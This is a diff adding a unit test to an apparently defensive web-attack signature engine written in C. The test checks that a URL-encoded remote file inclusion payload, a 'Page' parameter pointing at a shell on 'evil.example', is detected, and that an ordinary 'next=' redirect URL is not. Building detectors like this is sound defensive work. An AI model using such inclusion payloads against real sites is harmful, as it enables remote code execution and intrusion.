@@ -439,3 +439,26 @@ Test(websig_readers, the_protocol_reader_reports_through_the_set)
     cr_assert_eq(fk_websig_match_event(bare, &ev, collect, &h), 0, "%s", h.ids);
     fk_websig_free(bare);
 }
+
+/* A remote URL is an inclusion where the parameter's name says it picks a file to load,
+ * and a destination where it says where to go next. */
+Test(websig_readers, a_parameter_read_as_a_pair)
+{
+    static const char empty[] = "signatures: []\n";
+    fk_websig_set *bare;
+    fk_err err;
+    cr_assert_eq(fk_websig_load(&bare, "empty.yml", empty, sizeof empty - 1, NULL, NULL, &err), 0,
+                 "%s", err.msg);
+    fk_event ev;
+    fk_event_clear(&ev);
+    ev.kind = FK_KIND_WEB;
+    ev.path = FK_STR("/index.php");
+    ev.query = FK_STR("lang=en&Page=http%3A%2F%2Fevil.example%2Fshell");
+    hits h = {"", 0};
+    cr_assert_eq(fk_websig_match_event(bare, &ev, collect, &h), 1, "%s", h.ids);
+    cr_assert_str_eq(h.ids, "rfi:struct-rfi ");
+    ev.query = FK_STR("next=https%3A%2F%2Fwww.example.jp%2Fmypage&page=2");
+    h = (hits){"", 0};
+    cr_assert_eq(fk_websig_match_event(bare, &ev, collect, &h), 0, "%s", h.ids);
+    fk_websig_free(bare);
+}
